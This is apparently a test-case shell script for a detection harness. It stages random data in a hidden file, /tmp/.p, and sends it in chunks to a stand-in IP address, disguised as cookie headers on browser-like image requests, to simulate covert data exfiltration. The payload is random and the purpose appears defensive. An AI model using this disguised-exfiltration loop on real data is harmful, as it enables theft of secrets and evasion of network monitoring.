#!/bin/sh
. /opt/case/case.sh

head -c 90000 /dev/urandom | base64 -w 2000 >/tmp/.p
n=0
while read -r piece; do
    n=$((n + 1))
    curl -s -o /dev/null -A 'Mozilla/5.0 (X11; Linux x86_64)' -H "Cookie: session=$piece" "http://198.51.100.91/img/$n.png"
done </tmp/.p
test $n -ge 50
took_place
